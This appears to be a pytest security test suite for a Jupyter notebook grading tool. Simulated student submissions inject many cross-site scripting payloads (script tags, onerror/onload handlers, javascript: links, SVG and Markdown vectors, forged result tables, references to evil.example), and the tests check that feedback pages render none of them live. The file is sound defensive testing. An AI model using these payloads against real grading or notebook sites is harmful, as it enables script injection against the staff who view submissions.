"""Outputs and texts that would be live on a page: what reaches feedback and Formgrader can only be read."""

# ruff: noqa: E501 -- the long lines are in what is handed in

from html.parser import HTMLParser
from typing import Any

import pytest

from .conftest import Most, Play
from .machinery import Attacks, Graded, Notebook

ALARM = "alert(document.domain)"
SCRIPT = f"<script>{ALARM}</script><img src=x onerror={ALARM}>"
LIVE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "form",
    "base",
    "link",
    "svg",
    "math",
    "video",
    "audio",
    "input",
}
LIVE_TYPES = {"text/plain", "image/png", "image/jpeg"}
TABLES = {"application/vnd.backend2.checks+json", "text/html", "text/markdown"}

attacks = Attacks()


@attacks.code()
def shows_html() -> str:
    """Shows HTML with scripts, handlers and frames."""
    return f"""
from IPython.display import HTML, display
display(HTML("{SCRIPT}"), HTML("<iframe srcdoc='{SCRIPT}'></iframe>"), HTML("<base href=//evil.example>"))
HTML("<style>@import '//evil.example'</style><form action=//evil.example><input name=x></form>{SCRIPT}")
"""


@attacks.code()
def shows_svg() -> str:
    """Shows pictures that hold scripts."""
    return f"""
from IPython.display import SVG, display
svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="{ALARM}"><script>{ALARM}</script><a href="javascript:1"/></svg>'
display({{"image/svg+xml": svg}}, raw=True)
SVG(data=svg)
"""


@attacks.code()
def shows_markdown() -> str:
    """Shows Markdown and LaTeX with links that run."""
    return f"""
from IPython.display import Latex, Markdown, display
display(Markdown("[x](javascript:{ALARM}) ![x](javascript:{ALARM}) {SCRIPT}"))
display(Latex(r"$\\href{{javascript:{ALARM}}}{{x}}$"))
Markdown("<a href='  javascript:{ALARM}'>x</a>")
"""


@attacks.code()
def shows_javascript() -> str:
    """Shows what JupyterLab runs: JavaScript, widgets, applications."""
    return f"""
from IPython.display import Javascript, display
display({{"application/javascript": "{ALARM}", "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}},
    "application/vnd.plotly.v1+json": {{}}, "application/vnd.vega.v5+json": {{}}, "text/vnd.mermaid": "x"}}, raw=True)
Javascript("{ALARM}")
"""


@attacks.code()
def shows_false_pictures() -> str:
    """Shows pictures that are none, or break out of where they stand."""
    return f"""
from IPython.display import display
for kind in ("image/png", "image/jpeg", "image/gif", "application/pdf"):
    for content in ('x" onerror="{ALARM}', "<svg onload={ALARM}>", "iVBORw0KGgo=" + '"><script>', 5, None):
        display({{kind: content}}, metadata={{kind: {{"width": '1" onload="{ALARM}', "alt": '"><script>'}}}}, raw=True)
"""


@attacks.code()
def names_its_errors_so() -> str:
    """Raises errors whose names, messages and lines are markup."""
    return f"""
name = "{SCRIPT}"
def fail(*_):
    raise type(name, (Exception,), {{"__module__": name}})(name)
factorial = calls_made = complexity = bubble_sort = fail
fail()
"""


@attacks.code()
def returns_markup() -> str:
    """Returns, prints and calls things by markup, which the checks' tables show."""
    return f"""
class Odd:
    def __repr__(self): return "{SCRIPT}"
Odd.__name__ = Odd.__qualname__ = "{SCRIPT}"
def factorial(n): return "{SCRIPT}"
def calls_made(n): return Odd()
def complexity(): return "</td></table>{SCRIPT}"
def bubble_sort(items): return ["{SCRIPT}"]
print("{SCRIPT}")
"{SCRIPT}"
"""


@attacks.code()
def writes_to_a_terminal() -> str:
    """Prints a terminal's sequences: links, titles, colours that hold markup."""
    return f"""
print("\\x1b]8;;javascript:{ALARM}\\x07click\\x1b]8;;\\x07 \\x1b]0;{SCRIPT}\\x07 \\x1b[31;1m{SCRIPT}\\x1b[0m")
print("\\x1b[38;5;1;url(//evil.example)m{SCRIPT} \\x9b31m \\u202e{SCRIPT}")
"""


@attacks.code()
def forges_a_table() -> str:
    """Shows what looks like the course's own table of results, with markup in it."""
    return f"""
from IPython.display import display
from backend2.checks.report import RESULTS_MIME
result = {{"task": "{SCRIPT}", "check": "x", "title": "{SCRIPT}", "outcome": "passed", "worth": 10, "points": 10,
    "cause": {{"called": "{SCRIPT}", "got": "", "expected": "", "look_at": "{SCRIPT}", "label": "x"}}}}
display({{RESULTS_MIME: [result], "text/html": "{SCRIPT}", "text/markdown": "{SCRIPT}"}}, raw=True)
"""


def _add(notebook: Notebook, kind: str, source: str, **more: Any) -> None:
    cell = {"cell_type": kind, "metadata": {}, "source": source, "id": f"own{len(notebook['cells'])}", **more}
    notebook["cells"].append(cell)


@attacks.notebook()
def writes_markdown_cells(notebook: Notebook) -> None:
    """Has Markdown and raw cells of its own, and others' rewritten."""
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown" and "nbgrader" not in cell["metadata"]:
            cell["source"] = f"{SCRIPT}\n\n[x](javascript:{ALARM})"
    for text in (
        SCRIPT,
        f"[x](javascript:{ALARM})",
        f"[x]: javascript:{ALARM}\n[x]",
        f"<svg onload={ALARM}>",
    ):
        _add(notebook, "markdown", text, attachments={"x.svg": {"image/svg+xml": SCRIPT}})
        _add(notebook, "raw", text)


@attacks.notebook()
def writes_markup_into_code(notebook: Notebook) -> None:
    """Has code that is markup, and magics that show some."""
    _add(notebook, "code", f"# </code></pre>{SCRIPT}", outputs=[], execution_count=None)
    _add(notebook, "code", f"%%html\n{SCRIPT}", outputs=[], execution_count=f"{SCRIPT}")
    _add(notebook, "code", f"%%javascript\n{ALARM}", outputs=[], execution_count=None)
    _add(notebook, "code", f"%%svg\n<svg onload='{ALARM}'/>", outputs=[], execution_count=None)


@attacks.notebook()
def hands_in_outputs(notebook: Notebook) -> None:
    """Hands in outputs that no run has made."""
    live = {"output_type": "display_data", "metadata": {}, "data": {"text/html": SCRIPT}}
    value = {
        "output_type": "execute_result",
        "metadata": {},
        "data": {"text/plain": "10"},
        "execution_count": 1,
    }
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [live, value]
    notebook["metadata"].update(title=SCRIPT, widgets={"state": SCRIPT}, authors=[{"name": SCRIPT}])


class Page(HTMLParser):
    """Collects what of a page is live."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.live: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        """Note a tag that does something, and attributes that do."""
        self.live += [tag] if tag in LIVE_TAGS else []
        for name, value in attributes:
            target = "".join((value or "").split()).lower()
            leads_away = name in ("href", "src", "action") and target.startswith(
                ("javascript:", "data:text", "//")
            )
            if name.startswith("on") or name in ("srcdoc", "ping") or leads_away:
                self.live.append(f"{tag} {name}={value}")


@pytest.fixture(scope="module")
def graded(play: Play) -> Graded:
    return play(attacks)


@pytest.mark.parametrize("student", attacks.members)
def test_nothing_on_a_page_is_live(graded: Graded, student: str) -> None:
    graded.prove(student)
    assert not Page(graded.feedback(student)).live
    assert "evil.example" not in " ".join(
        f"{name}={value}" for name, value in _links(graded.feedback(student))
    )


@pytest.mark.parametrize("student", attacks.members)
def test_graded_notebooks_hold_only_what_can_be_read(graded: Graded, student: str) -> None:
    for cell in graded.graded(student)["cells"]:
        is_check = cell["metadata"].get("nbgrader", {}).get("grade", False)
        for output in cell.get("outputs", ()):
            kinds = set(output.get("data", ()))
            assert kinds <= (LIVE_TYPES | TABLES if is_check else LIVE_TYPES)
            shown = "".join(output.get("data", {}).get("text/html", ()))
            assert not Page(shown).live


def _links(page: str) -> list[tuple[str, str | None]]:
    found: list[tuple[str, str | None]] = []

    class Links(HTMLParser):
        def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
            found.extend(attributes)

    Links().feed(page)
    return found


def test_nobody_else_is_touched(graded: Graded, most: Most) -> None:
    graded.prove_the_rest(most(attacks))
